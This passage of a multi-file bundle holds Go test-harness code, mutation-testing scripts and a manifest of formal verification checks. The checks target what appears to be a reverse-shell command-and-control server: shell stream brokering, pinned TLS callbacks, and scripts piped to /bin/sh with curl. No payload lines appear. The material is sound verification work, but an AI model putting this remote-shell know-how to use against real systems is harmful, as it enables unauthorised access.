		rw.FlushRes = append(rw.FlushRes, ok)
	}
}

// Scripted returns how many scripted results are still unconsumed.
func (rw *RecWriter) Scripted() int {
	rw.mu.Lock()
	defer rw.mu.Unlock()
	return len(rw.WriteRes) + len(rw.FlushRes)
}

// SetOnOp installs the operation callback.
func (rw *RecWriter) SetOnOp(f func(kind string, data []byte, fail bool)) {
	rw.mu.Lock()
	rw.OnOp = f
	rw.mu.Unlock()
}

// ErrInjected is the injected transport error.
var ErrInjected = errors.New("injected transport error")

func (rw *RecWriter) Write(p []byte) (int, error) {
	gok := rw.park("write")
	rw.mu.Lock()
	defer rw.mu.Unlock()
	fail := !gok
	if rw.FailWrite > 0 {
		rw.FailWrite--
		fail = rw.FailWrite == 0
	}
	if len(rw.WriteRes) > 0 {
		fail = fail || !rw.WriteRes[0]
		rw.WriteRes = rw.WriteRes[1:]
	}
	if rw.OnOp != nil {
		rw.OnOp("write", p, fail)
	}
	rw.Ops = append(rw.Ops, WOp{Seq: rw.w.NextSeq(), Kind: "write", Data: string(p), Fail: fail})
	rw.signal()
	if fail {
		return 0, ErrInjected
	}
	return len(p), nil
}

func (rw *RecWriter) signal() {
	if rw.notify != nil {
		select {
		case rw.notify <- struct{}{}:
		default:
		}
	}
}

func (rw *RecWriter) flush() error {
	gok := rw.park("flush")
	rw.mu.Lock()
	defer rw.mu.Unlock()
	fail := !gok
	if rw.FailFlush > 0 {
		rw.FailFlush--
		fail = rw.FailFlush == 0
	}
	if len(rw.FlushRes) > 0 {
		fail = fail || !rw.FlushRes[0]
		rw.FlushRes = rw.FlushRes[1:]
	}
	if rw.OnOp != nil {
		rw.OnOp("flush", nil, fail)
	}
	rw.Ops = append(rw.Ops, WOp{Seq: rw.w.NextSeq(), Kind: "flush", Fail: fail})
	rw.signal()
	if fail {
		return ErrInjected
	}
	return nil
}

// NOps returns the number of operations so far.
func (rw *RecWriter) NOps() int {
	rw.mu.Lock()
	defer rw.mu.Unlock()
	return len(rw.Ops)
}

// Snapshot returns a copy of the operations.
func (rw *RecWriter) Snapshot() []WOp {
	rw.mu.Lock()
	defer rw.mu.Unlock()
	return append([]WOp(nil), rw.Ops...)
}

// WaitOps waits until at least n operations were recorded.
func (rw *RecWriter) WaitOps(n int, d time.Duration) bool {
	dl := time.Now().Add(d)
	for rw.NOps() < n {
		if time.Now().After(dl) {
			return false
		}
		time.Sleep(20 * time.Microsecond)
	}
	return true
}

// FlushErrWriter exposes FlushError.
type FlushErrWriter struct{ *RecWriter }

// FlushError implements the FlushError interface.
func (f FlushErrWriter) FlushError() error { return f.flush() }

// FlusherWriter exposes http.Flusher's Flush.
type FlusherWriter struct{ *RecWriter }

// Flush implements http.Flusher.
func (f FlusherWriter) Flush() { f.flush() }

// BothWriter has Flush and FlushError, like net/http's response writers, whose Flush is
// FlushError with the error thrown away.
type BothWriter struct{ *RecWriter }

// Flush implements http.Flusher.
func (f BothWriter) Flush() { f.flush() }

// FlushError implements the FlushError interface.
func (f BothWriter) FlushError() error { return f.flush() }

// PlainWriter is only an io.Writer.
type PlainWriter struct{ rw *RecWriter }

func (p PlainWriter) Write(b []byte) (int, error) { return p.rw.Write(b) }

// ---------------------------------------------------------------------------

// RRes is one scripted result of Read.
type RRes struct {
	Data []byte
	Err  error
}

// ScriptReader returns exactly the scripted results, one per Read call, and
// blocks when the script is exhausted until more is pushed or it is closed.
type ScriptReader struct {
	w   *World
	att int

	mu     sync.Mutex
	cond   *sync.Cond
	script []RRes
	closed bool
	Reads  int // Read calls that returned
	Calls  int // Read calls started
	Bytes  int
	// OnRead, if set, is called just before a Read returns (with the lock held).
	OnRead func(n int, data []byte, err error)
}

// SetOnRead installs the Read callback.
func (r *ScriptReader) SetOnRead(f func(n int, data []byte, err error)) {
	r.mu.Lock()
	r.OnRead = f
	r.mu.Unlock()
}

// IsClosed reports whether Close was called.
func (r *ScriptReader) IsClosed() bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.closed
}

// NewScriptReader makes a reader.
func NewScriptReader(w *World, att int) *ScriptReader {
	r := &ScriptReader{w: w, att: att}
	r.cond = sync.NewCond(&r.mu)
	return r
}

// Push appends a scripted result.
func (r *ScriptReader) Push(res RRes) {
	r.mu.Lock()
	if r.closed {
		r.mu.Unlock()
		return
	}
	r.script = append(r.script, res)
	r.mu.Unlock()
	r.cond.Broadcast()
}

// CloseRec is Close, calling rec (if the reader was still open) while the
// reader's lock is held, so that the closing is ordered with Read results.
func (r *ScriptReader) CloseRec(rec func()) {
	r.mu.Lock()
	if !r.closed && rec != nil {
		rec()
	}
	r.closed = true
	r.script = nil
	r.mu.Unlock()
	r.cond.Broadcast()
}

// Close makes pending and future reads fail with io.ErrClosedPipe.
func (r *ScriptReader) Close() error {
	r.mu.Lock()
	r.closed = true
	r.script = nil // a closed transport delivers nothing more
	r.mu.Unlock()
	r.cond.Broadcast()
	return nil
}

func (r *ScriptReader) Read(p []byte) (int, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.Calls++
	for len(r.script) == 0 && !r.closed {
		r.cond.Wait()
	}
	if len(r.script) == 0 {
		r.Reads++
		if r.OnRead != nil {
			r.OnRead(0, nil, io.ErrClosedPipe)
		}
		return 0, io.ErrClosedPipe
	}
	res := r.script[0]
	n := copy(p, res.Data)
	if n < len(res.Data) {
		r.script[0].Data = res.Data[n:]
		r.Reads++
		r.Bytes += n
		if r.OnRead != nil {
			r.OnRead(n, p, nil)
		}
		return n, nil
	}
	r.script = r.script[1:]
	r.Reads++
	r.Bytes += n
	if r.OnRead != nil {
		r.OnRead(n, p, res.Err)
	}
	return n, res.Err
}

// Stats returns calls started, reads returned and bytes handed out.
func (r *ScriptReader) Stats() (calls, reads, bytes int) {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.Calls, r.Reads, r.Bytes
}

// Pending returns the number of scripted results not yet consumed.
func (r *ScriptReader) Pending() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.script)
}

// ---------------------------------------------------------------------------

// LogRec is one captured slog record.
type LogRec struct {
	Seq   int64
	Level slog.Level
	Msg   string
	Attrs map[string]string
}

// LogCap is a slog.Handler which captures records in order.
type LogCap struct {
	// OnRec, if set on the root handler, is called for every record.
	OnRec func(LogRec)
	w     *World
	attrs []slog.Attr
	recs  *[]LogRec
	mu    *sync.Mutex
}

func (l *LogCap) init() {
	if l.recs == nil {
		l.recs = new([]LogRec)
		l.mu = new(sync.Mutex)
	}
}

// Enabled implements slog.Handler.
func (l *LogCap) Enabled(context.Context, slog.Level) bool { return true }

// Handle implements slog.Handler.
func (l *LogCap) Handle(_ context.Context, r slog.Record) error {
	l.init()
	rec := LogRec{Seq: l.w.NextSeq(), Level: r.Level, Msg: r.Message, Attrs: map[string]string{}}
	for _, a := range l.attrs {
		rec.Attrs[a.Key] = a.Value.String()
	}
	r.Attrs(func(a slog.Attr) bool {
		rec.Attrs[a.Key] = a.Value.String()
		return true
	})
	l.mu.Lock()
	*l.recs = append(*l.recs, rec)
	l.mu.Unlock()
	if f := l.w.Log.OnRec; f != nil {
		f(rec)
	}
	return nil
}

// WithAttrs implements slog.Handler.
func (l *LogCap) WithAttrs(as []slog.Attr) slog.Handler {
	l.init()
	n := *l
	n.attrs = append(append([]slog.Attr(nil), l.attrs...), as...)
	return &n
}

// WithGroup implements slog.Handler.
func (l *LogCap) WithGroup(string) slog.Handler { return l }

// Records returns a copy of the captured records.
func (l *LogCap) Records() []LogRec {
	l.init()
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]LogRec(nil), *l.recs...)
}
