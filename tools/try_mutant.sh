#!/bin/bash
# usage: try_mutant.sh <patch.diff> <check> [check...]   applies the patch to /repo, runs the quick checks, restores /repo
set -u
P=$(readlink -f "$1"); shift
if [ -n "$(git -C /repo status --porcelain)" ]; then echo "/repo is not clean"; exit 2; fi
git -C /repo apply "$P" || exit 2
for c in "$@"; do
  tier=quick; id=$c
  case $c in *:thorough) tier=thorough; id=${c%%:*};; esac
  out=$(cd /verif && timeout 1800 ./run.sh $id $tier 2>&1); rc=$?
  echo "== $id $tier exit=$rc"; echo "$out" | grep -E "VIOLATION|what:|INCONCL|KNOWN|BUILD-FAILED" | head -12
done
git -C /repo checkout -- .
rm -f /verif/replays/*.json
git -C /repo status --short | head -3
