#!/bin/bash
# Runs every seeded change against the checks its meta.json says catch it; prints one line per (change, check).
# usage: run_seeded.sh [id ...]   (default: all)
ROOT=$(cd "$(dirname "$0")/.." && pwd)
REPO="${VERIF_REPO:-/repo}"
cd "$ROOT/seeded" || exit 2
ids=${@:-$(ls)}
for id in $ids; do
  [ -f $id/patch.diff ] || continue
  checks=$(python3 -c "
import json,re,sys
m=json.load(open('$id/meta.json'))
print(' '.join(sorted({re.match(r'(C[0-9]+)',c).group(1) for c in m['caught_by'] if re.match(r'(C[0-9]+)',c)})))")
  if [ -n "$(git -C "$REPO" status --porcelain)" ]; then echo "$REPO is not clean"; exit 2; fi
  git -C "$REPO" apply "$ROOT/seeded/$id/patch.diff" || { echo "$id: patch does not apply"; continue; }
  for c in $checks; do
    out=$(cd "$ROOT" && timeout 1800 ./run.sh $c quick 2>&1); rc=$?
    keys=$(echo "$out" | grep "what:" | sed 's/.*what: //' | tr '\n' ';')
    echo "$id $c exit=$rc $keys"
  done
  git -C "$REPO" checkout -- .
  rm -f "$ROOT"/replays/*.json
done
