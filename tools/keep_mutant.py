#!/usr/bin/env python3
"""keep_mutant.py <id> <worktree> <property> <needs> <caught_by (comma list)> [missed_before]  -> /verif/seeded/<id>/"""
import sys, os, shutil, json, glob
mid, wt, prop, needs, caught = sys.argv[1:6]
extra = sys.argv[6] if len(sys.argv) > 6 else ""
d = f"/verif/seeded/{mid}"
os.makedirs(d + "/demo", exist_ok=True)
shutil.copy(f"{wt}/MUTANT/patch.diff", d + "/patch.diff")
for f in glob.glob(f"{wt}/MUTANT/demo/*"):
    if os.path.isfile(f):
        shutil.copy(f, d + "/demo/")
if os.path.exists(f"{wt}/MUTANT/notes.txt"):
    shutil.copy(f"{wt}/MUTANT/notes.txt", d + "/notes.txt")
meta = {"id": mid, "property": prop, "origin": "written by an independent sub-agent given only the property text and a scratch worktree",
        "needs": needs,
        "confirmed": "in the scratch worktree: go build/vet and the unedited suite pass with the change; the demonstration fails with it and passes without it (tools/confirm_mutant.sh)",
        "ran": f"tools/try_mutant.sh seeded/{mid}/patch.diff " + " ".join(c.split()[0] for c in caught.split(",")),
        "caught_by": [c.strip() for c in caught.split(",") if c.strip()]}
if extra:
    meta["history"] = extra
json.dump(meta, open(d + "/meta.json", "w"), indent=1)
print("kept", d)
