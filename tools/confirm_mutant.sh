#!/bin/bash
# usage: confirm_mutant.sh <worktree> <pkg of demo> <-run pattern> [extra go test args]
# Confirms in the scratch worktree: with the change the suite passes and the demo fails; without it the demo passes.
set -u
WT=$1; PKG=$2; RUN=$3; shift 3
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
cd "$WT" || exit 2
SRC=$(git diff --name-only)
DEMOS=$(git status --short | awk '$1=="??"{print $2}' | grep '_test.go$' | grep -v '^MUTANT')
rm -rf /tmp/mut-hold; mkdir -p /tmp/mut-hold
for d in $DEMOS; do mv "$d" /tmp/mut-hold/; done
mv MUTANT /tmp/mut-hold/MUTANT
echo "--- suite WITH change (demo aside)"; go build ./... && go vet ./... && go test -count=1 ./... 2>&1 | grep -v "no test files" | grep -cv "^ok" | sed 's/^/non-ok lines: /'
mv /tmp/mut-hold/MUTANT MUTANT
for d in $DEMOS; do mv /tmp/mut-hold/$(basename $d) "$d"; done
echo "--- demo WITH change (expect FAIL)"; go test -count=1 -run "$RUN" "$@" "$PKG" 2>&1 | tail -3
git diff > /tmp/mut-hold/src.diff
git checkout -- $SRC
echo "--- demo WITHOUT change (expect ok)"; go test -count=1 -run "$RUN" "$@" "$PKG" 2>&1 | tail -2
git apply /tmp/mut-hold/src.diff
echo "--- restored: $(git diff --stat | tail -1)"
