#!/bin/sh
# Offline set-up: compile the harness once so the module cache / build cache are warm.
set -e
cd /verif/harness
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
cp /repo/go.sum go.sum
mkdir -p /verif/bin /verif/evidence /verif/replays
go build -tags verif -o /verif/bin/vcheck ./cmd/vcheck
echo setup ok
