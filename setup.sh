#!/bin/sh
# Offline set-up: compile the harness once so the module cache / build cache are warm.
set -e
ROOT=$(cd "$(dirname "$0")" && pwd)
cd "$ROOT/harness"
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
cp /repo/go.sum go.sum
mkdir -p "$ROOT/bin" "$ROOT/evidence" "$ROOT/replays"
go build -tags verif -o "$ROOT/bin"/vcheck ./cmd/vcheck
echo setup ok
