#!/usr/bin/env python3
"""Regenerates MANIFEST.json from the table below (single source of truth)."""
import json, subprocess

HOOK_COMMITS = ["9676e60", "8994ff0"]

CHECKS = {
 "C01": dict(level="model_checking", design="DESIGN.md §6 C01, §4.1, §5.2",
   technique="TLA+ BrokerCtl.tla model-checked with TLC; every edge of its state graph replayed on the real Broker under a gate-imposed schedule (replay conformance); TLC trace validation (BrokerCtlTrace.tla) of the repository's tests and of free-running drivers",
   text="TLC checks OneShell, Consistent, RefusedWhenRequired and friends on every interleaving of 3-4 attempts (all mixes of /i, /o, /io, three IDs incl. the empty one, stream endings, shutdown). Every edge of that graph is then replayed on a real iobroker.Broker with the verif gates imposing the admission/release order; after each step the broker's state, the attempt's fate, the notices and events are compared with TLC's successor state, and refused attempts are checked to have received no I/O. Three further legs: executions of the repository's own iobroker/hsrv tests (hooks recording, VERIF_TRACE) and of free-running concurrent drivers are validated by TLC against BrokerCtlTrace.tla, and over real HTTPS an output stream is only paired with an input stream when its path ID is exactly the same (case, prefix, extension, escaped variants are refused).",
   note="Trusted: TLC, the gate hooks (observe/delay only), the projection in harness/brk. IDs are drawn from a seeded family of related strings, not all strings. The HTTP layer's ID extraction is covered separately by the server-level checks."),
 "C03": dict(level="model_checking", design="DESIGN.md §6 C03, §4.1, §5.3",
   technique="TLA+ BrokerOut.tla model-checked with TLC (safety + liveness); traces recorded from the real proxyOut validated by TLC against BrokerOutTrace.tla (trace validation)",
   text="BrokerOut models the reader goroutine, its 2-slot queue, the forwarder, the close notice and the terminal; TLC proves ShownIsPrefix, NoticeAfterAllData, NoticeLast, NothingAfterDrop for every interleaving with operator-channel capacity 0/1/4. Environment schedules covering every edge of that graph (reads returning data / data+error / error / nothing, terminal speed, cancellation, transport close) are run against a real Broker and each recorded trace must be a behaviour of the specification (silent internal steps inferred by TLC). Curlrevshell.tla composes BrokerOut with Opshell over the operator channel and TLC checks the end-to-end form (what is displayed is, in order, part of what was sent; nothing lost without Ctrl+O or cancellation); a live leg uploads chunks of 1 B..70 KB on /o/{id} and /io over real HTTPS and compares what is displayed byte for byte, before the close notice.",
   note="Trusted: TLC, harness-owned reader/terminal, content-to-chunk mapping. Chunk sizes come from a seeded set up to the 2048-byte read buffer; the pty display leg is covered by C19/C12 checks."),
 "C04": dict(level="model_checking", design="DESIGN.md §6 C04, §4.1, §5.2, §5.3",
   technique="TLA+ BrokerCtl.tla/BrokerOut.tla model-checked with TLC incl. liveness under fairness; gated replay of the control graph plus TLC trace validation of output-path executions with a per-world goroutine census",
   text="Safety (ExactlyOneGone, ReadyOnlyWhenFull, FullImpliesReady, ReArm, ShutdownWaits) and liveness (PeerCancelled, EndsWhenCancelled, NoLeak) are model-checked; the control graph's edges are replayed on the real Broker comparing notices, events, book-keeping and Do's return; output-path executions (flood, stalled terminal, cancellation at every point) end with a goroutine census that the trace specification only accepts when nothing of the stream is left running; the repository's tests and free-running drivers are trace-validated against BrokerCtlTrace.tla; and 40 (quick) / 400 (thorough) shells in series over real HTTPS, each with a new ID and ended in different ways, must each be accepted, announced ready once, gone once, with the callback help printed again once.",
   note="Trusted: TLC, pprof goroutine labels for the census, 5 s bound standing in for 'eventually'."),
 "C06": dict(level="model_checking", design="DESIGN.md §6 C06, §4.1, §5.2",
   technique="TLA+ BrokerCtl.tla (SameRequest, AtMostOneIO) model-checked with TLC; every admission order of the halves of 2 /io requests replayed on the real Broker through gates; TLC trace validation of free-running callers; inductive invariant (BrokerInd.tla) discharged by Apalache",
   text="TLC checks SameRequest / AtMostOneIO / NoMixIOUni over every interleaving of two /io requests (four halves) with or without unidirectional attempts, and the harness replays every edge on a real Broker, ordering the halves with the admit gates and checking by its own accounting which request each attached half belongs to; free-running concurrent /io callers are trace-validated by TLC (SameRequest, AtMostOneIO evaluated on every state of the recorded execution); and Apalache discharges an inductive invariant of BrokerInd.tla (TypeOK, Consistent, KeysOfRequests, OneShell, SameRequest), so OneShell and SameRequest hold after histories of any length for 4 attempts in flight.",
   note="Trusted: TLC, gate hooks. 3-4 simultaneous /io requests are covered by simulation in the thorough tier only."),
 "C02": dict(level="model_checking", design="DESIGN.md §6 C02, §4.1, §5.3",
   technique="TLA+ BrokerIn.tla model-checked with TLC (safety + liveness); traces of the real proxyIn (gated writer, fault injection) validated by TLC against BrokerInTrace.tla",
   text="BrokerIn models operator lines, successive shells, writer kinds (FlushError / http.Flusher / plain), a possible failure at every write and flush, cancellation and closing of the input channel; TLC proves GapFree, LostOnlyOnOwnError, FlushBeforeNextTake, Prompt. Schedules covering every edge of that graph are executed on a real Broker with harness-owned writers whose calls park until the schedule decides their result; every recorded trace (enter / write / flush / log / release events) must be a behaviour of the specification. A live leg enters lines one at a time on a real hsrv and requires each to reach a real HTTPS client on /i/{id} and /io within 5 s before the next is entered.",
   note="Trusted: TLC, harness writers, content-to-line mapping. Promptness is a 5 s bound."),
 "C08": dict(level="fault_enumeration", design="DESIGN.md §6 C08, §4.3",
   technique="TLA+ Identity.tla model-checked with TLC; every history of its graph and every crash point (all prefix lengths of the cache file) replayed on real files through sstls.Listen and a TLS handshake",
   text="Identity.tla states StableKey, TornNeverSilentlyDifferent, NeverRewritten, MissingRegenerates over histories of start / stop / crash-during-save / damage / delete; each history is replayed on real files: the served key is observed by a real TLS handshake, the file's bytes, inode, mtime and modes are compared before and after every run, and every prefix length of a complete cache file is tried as a crash point.",
   note="Trusted: crypto/tls, crypto/x509, SHA-256. A crash is modelled by the prefix it leaves behind. The real-binary leg (flag wiring, exit status) is part of C20."),
 "C11": dict(level="model_checking", design="DESIGN.md §6 C11, §4.1, §5.3",
   technique="TLA+ BrokerIn/BrokerOut/BrokerCtl log-history invariants model-checked with TLC; the slog records of real executions are trace events validated by TLC, connect/refusal records compared per attempt in the gated replay",
   text="The log is a history variable of the broker specifications (LogMatchesDelivery, LogMatchesForwarded, NothingDroppedLogged); a capturing slog.Handler turns every Shell I/O record of a real execution into a trace event that TLC must be able to place exactly after the corresponding delivery, and the control replay checks one connect and one disconnect record per accepted stream and one error record with a true reason per refused stream. The -log file written by the real binary during a session with quotes, newlines, control and non-UTF-8 bytes is parsed line by line (one JSON object per line) and its records compared with the session.",
   note="Trusted: TLC, the capturing handler. Data equality for the -log file is modulo JSON's replacement of invalid UTF-8, as the statement says."),
 "C15": dict(level="exploration", design="DESIGN.md §6 C15, §4.7",
   technique="TLA+ UU.tla transcription of uuencode/uudecode; TLC enumerates the case space, checks round-trip/length laws and emits expected results used as oracle for the real functions and perl (specification as oracle); TLC validates the 2^24-group tables",
   text="UU.tla defines Enc, Dec, MaxEncodedLen, MaxDecodedLen over byte sequences; TLC enumerates encoder cases (lengths x content patterns) and decoder cases (valid encodings x 18 mutations: CR-LF, blank lines, bad length byte, wrong data length, characters outside the alphabet at each position class, backtick/space), checks RoundTrip / MaxLenOK / DecTotal on them and prints the expected outcome of each; the driver runs every case through AppendEncode/AppendDecode in three memory layouts (purity, no panic) and through perl pack/unpack, encodes all 2^24 three-byte groups with the real encoder, checks the per-character dependencies black-box and has TLC validate the projected tables against EncGroup.",
   note="Contents beyond the enumerated classes (1 MiB random/adversarial) are seeded differential tests against perl, not model checking. perl 5.36 is the reference for Perl compatibility."),
 "C16": dict(level="exploration", design="DESIGN.md §6 C16, §4.7",
   technique="TLA+ PerlWrap.tla (CleanPerl over line classes; quoting pipeline over the uu alphabet) checked with TLC; its cases are the oracle for the real FromPerl (static reversal decoded by perl); generated programs executed under dash, bash and perl",
   text="TLC enumerates every sequence of line classes up to the bound with the (lead comments, program text) PerlWrap.tla's Clean assigns, and checks that the substitution/quoting chain is the identity on the whole uu alphabet; each sequence is concretised, passed through the real FromPerl, the carried text statically reversed and decoded by perl and compared. Generated Perl programs (all byte values, quotes, backslashes, braces, here-docs, __END__, exit codes, die, arguments, stdin, every length residue, up to ~64 KiB) are run as shell functions under dash and bash and directly under perl, comparing stdout and exit status.",
   note="'Every Perl program' is a bounded grammar with perl itself as behavioural oracle. Two open findings are listed in known-findings.json (zero-length script; raw CR after a here-document)."),
 "C17": dict(level="model_checking", design="DESIGN.md §6 C17, §4.7",
   technique="TLA+ Payload.tla: TLC enumerates every small directory shape x filter table, checks OnlyEligible/Sorted/IneligibleIsInert and emits the expected (file, filter) list; real trees on disk are compared byte for byte with Converter.From (specification as oracle)",
   text="Payload.tla defines eligibility (regular, not dot-prefixed, matches a pattern), first-match filter precedence in sorted pattern order and name-ordered concatenation; TLC enumerates all directories of up to 2 (quick) / 3 (thorough) entries drawn from 12 name classes x types (regular, directory, valid link, dangling link) x content classes under 4 filter tables, checks the laws and prints the expected payload; the driver builds each tree with seeded spellings (spaces, glob characters, several extensions, editor lock and backup names) and compares Converter.From byte for byte, twice, plus every regular entry as a single source and a multi-source call.",
   note="The conversion of one Perl file is the real FromPerl (decided by C16). Symbolic links are only generated among dot-files and names no pattern matches, as the quantifier says."),
 "C18": dict(level="exploration", design="DESIGN.md §6 C18, §4.7",
   technique="TLA+ TabList.tla: shell-lexer automaton over character classes, TLC checks that every escaped row lexes to one literal word; rows concretised and executed by real dash and bash on GenFuncList's output (specification as oracle)",
   text="TabList.tla models Escape (every ' becomes '\\'') and the POSIX lexer restricted to unquoted / single-quoted / escaped modes; TLC checks OneLiteralWord, EndsUnquoted, NothingExposed, OnlyQuoteEscapes for every row over 19 classes up to length 3 (quick) / 4 (thorough). Each row is concretised with seeded spellings including command substitutions that would create a canary file, placed after the tag in payloads with duplicates and empty tags; GenFuncList's text is checked for unescaped quotes and sourced by dash and bash with echo stubbed: one word per row, rows as intended, nothing created; payloads free of TAB/VT/FF/0xFF must list exactly the expected (name, description) pairs, sorted and distinct.",
   note="Rows are a class abstraction with seeded spellings, not every byte string; dash and bash stand for 'a POSIX shell'."),
 "C13": dict(level="model_checking", design="DESIGN.md §6 C13, §4.6",
   technique="TLA+ Pin.tla model-checked with TLC over every interleaving of concurrent calls (OwnConfigOnly, GlobalsUntouched); every (fingerprint, server) assignment replayed on the real simpleshell.Go against real TLS servers, sequentially and concurrently",
   text="Pin.tla gives each call a Configure and a Connect step so that concurrent calls interleave, and states that a call's fate is Decision(own fingerprint, chain presented) and that the process-wide HTTP defaults stay pristine; TLC checks all interleavings for 2 (quick) / 3 (thorough) calls over 9 fingerprint kinds x 3 server kinds. Every assignment is executed on the real code against freshly keyed TLS servers (self-signed, untrusted chain with the match at position 0 or 1, chain under the process's only trusted root), as a sequence and then at the same time; observed: did the request reach the handler, was a TCP connection made at all, the error, and http.DefaultClient / http.DefaultTransport after every call.",
   note="Trusted: crypto/tls, x509, SHA-256; the trust store is replaced through SSL_CERT_FILE before first use. 'Other' fingerprints are seeded near misses."),
 "C14": dict(level="model_checking", design="DESIGN.md §6 C14, §4.6",
   technique="TLA+ Relay.tla model-checked with TLC (AllRelayedBeforeEOF, ExitReported, liveness Ends) over every interleaving of child, copiers, runner, closer and consumer; its shapes replayed on the real CmdShell with a real child process at several volumes and consumer paces",
   text="Relay.tla models the child's two bounded kernel pipes, the two copiers into one rendezvous pipe, the runner (start / wait), the closer and a consumer reading at its own pace; TLC checks that at end-of-file everything written has been received in per-stream order and that the exit status is reported. Each shape x exit status is run on the real CmdShell with a helper child whose every output byte encodes its stream and offset, with chunk sizes from 12 B to 70 KB, fast / slow / late consumers, exit delays and stdin use, several times each.",
   note="The OS scheduler inside os/exec cannot be gated: configurations are run repeatedly and any lossy run counts. Trusted: the helper child built from /verif."),
 "C09": dict(level="exploration", design="DESIGN.md §6 C09, §4.2",
   technique="TLA+ Routes.tla (mux routing, path cleaning, file resolution) checked with TLC over every token-sequence target x configuration; outcomes used as oracle for a real hsrv over raw TLS; hostile spellings checked against canary files",
   text="Routes.tla transcribes the route table, the mux's path cleaning and the file server's resolution; TLC enumerates all targets of up to 3 (quick) / 4 (thorough) tokens (tree names, missing, dot segments, empty segments, endpoint words, ids) x final slash x {unset, single file, plain tree, tree with files named like the endpoints}, checks Confined / SingleFile / Unset404 / EndpointsKeepMeaning and emits the outcome; every target is requested from a real server (redirects followed) and classified by the broker's own connect records, body content, listing or 404; hostile spellings are only required never to disclose canary files placed above, beside and similar to the tree; every request that reaches the file handler must be reported.",
   note="Targets are a class abstraction with seeded hostile spellings; symbolic links leaving the tree are not generated."),
 "C10": dict(level="exploration", design="DESIGN.md §6 C10, §4.2, §8",
   technique="TLA+ Notices.tla enumerates (reporting action, client-controlled field, format-significant token sequence) with TLC; each case sent as a real request to a real hsrv and the operator lines compared (specification as oracle)",
   text="Every reporting action reachable by a request (file requested, sent script, input/output connected, duplicate and wrong-ID refusals) x every client-controlled field (path, query, c2 parameter, c2 header, Host, callback ID) x every sequence of up to 2 (quick) / 3 (thorough) tokens from 20 format-significant tokens (verbs, flags, widths, indexes, %%, URL escapes, lone %) is sent over TLS; the notice must contain the text as sent, as URL-decoded or in Go-quoted form, and no formatter artefact.",
   note="The clause about every call site that passes a computed format string is a static property of program text and is not decided (DESIGN.md §8); only sites reached by the enumerated reporting actions are."),
 "C20": dict(level="fault_enumeration", design="DESIGN.md §6 C20, §4.5",
   technique="TLA+ Main.tla (start-up as a sequential program over fault sets) checked with TLC; every configuration created for real and run with the real binary on a pty or without a terminal (replay conformance)",
   text="Main.tla orders the start-up steps and states NeverCrashes, CleanFailure, FailsWhenItMust, TermiosRestored; TLC enumerates every fault set of size <= 2 x informational flag x TTY yes/no x exit key and emits the outcomes the statement allows; each configuration is produced with real files, bound ports and a pseudo-terminal (or a session without one) and the real binary is run: exit status, no panic text or fatal signal, the message names a cause that is present, termios before start equals termios after exit.",
   note="Fault classes are the enumerated ones; permission faults use ENOTDIR because checks run as root. -icanhazip fails because the sandbox is offline."),
 "C05": dict(level="model_checking", design="DESIGN.md §6 C05, §4.3",
   technique="TLA+ Identity.tla (AdvertisedIsServed over histories of runs and advertising actions) model-checked with TLC; every edge of its graph replayed with the real binary on a pty, pins compared with the key seen in a TLS handshake, plus real curl --pinnedpubkey",
   text="Identity.tla carries the set of fingerprints a run has advertised (start-up one-liners, scripts at /c, help re-printed after a shell died) and states that it is exactly the key served, over histories of cached / uncached runs, stops, interrupted saves, damage and deletion; histories covering every edge are replayed with the real binary on a pseudo-terminal with seeded listen-address forms (IPv4/IPv6, with/without port), -callback-address forms and -serve-files-from; every pin on the terminal and in /c is compared with base64(SHA-256(SPKI)) of the leaf a handshake on the bound port presents, printed addresses must carry the bound port unless the user gave one, and real curl must connect with the advertised pin and fail with another.",
   note="Trusted: crypto/tls, x509, SHA-256 (treated as injective), curl 7.88."),
 "C07": dict(level="model_checking", design="DESIGN.md §6 C07, §4.2",
   technique="TLA+ Script.tla (C2URL precedence, template-file state machine, fresh IDs) checked with TLC; every source combination and every template history replayed against a real hsrv over raw TLS; scripts executed by real /bin/sh + curl",
   text="Script.tla gives the callback address as a function of which sources a request carries and the template file as a state machine re-read per request; TLC enumerates all 288 source combinations (incl. POST form bodies, HTTP/1.0 without Host, SNI, listen port 443) and all edit/request histories up to the bound; each is played against a real server (real file edits, removals, re-creations), the script is taken apart (both pins = hash of the presented leaf, same URL, same safe ID, never repeated), thousands of scripts are requested for ID freshness, and scripts are piped to real /bin/sh with real curl until a command round-trips through the attached shell.",
   note="A raw UTF-8 Host never reaches the handler (net/http answers 400); the IDNA clause is exercised with hosts net/http lets through."),
 "C12": dict(level="model_checking", design="DESIGN.md §6 C12, §4.2, §4.5",
   technique="TLA+ OneShell.tla (listener, broker events, graceful shutdown, exit) model-checked with TLC incl. liveness; every edge of its graph replayed with the real binary started with -one-shell on a pty and real TLS clients",
   text="OneShell.tla states ClosedOnlyAfterFull, OpenWhileNotFull, ShellUndisturbed, NoHelpAfterGone, StaysWhileShellAttached and, under fairness, ClosesAfterFull and ExitsAtNextLine; TLC checks them over every arrival order (in/out, out/in, /io), refused and dropped half-attached attempts beforehand, probes, traffic and each way the shell may end. Walks covering every edge are replayed with the real binary on a pseudo-terminal: connect(2) probes before and after the ready notice, traffic both ways through the surviving shell, the shell ended by closing one of its streams, then the operator's line: exit status 0, farewell, no callback help after the shell is gone, termios restored.",
   note="'Shortly' is 3 s, the deciding line is entered 1.2 s after the shell has gone (the graceful shutdown polls up to 500 ms apart). An implementation ahead of the specification's silent steps is accepted."),
 "C19": dict(level="model_checking", design="DESIGN.md §6 C19, §4.4",
   technique="TLA+ Opshell.tla (discrete-time mute state machine) model-checked with TLC incl. liveness; the edges of its graph replayed in real time against the real lib/opshell on a pseudo-terminal",
